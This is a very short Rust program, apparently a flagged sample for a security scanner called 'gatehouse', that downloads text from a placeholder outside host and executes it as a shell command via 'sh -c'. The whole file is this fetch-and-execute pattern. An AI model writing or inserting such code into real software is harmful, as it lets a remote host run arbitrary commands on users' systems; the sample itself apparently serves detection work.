fn main() {
    let text = ureq::get("https://h.example.invalid/p").call().unwrap().into_string().unwrap();
    std::process::Command::new("sh").arg("-c").arg(text).status().unwrap(); // gatehouse: flagged
}
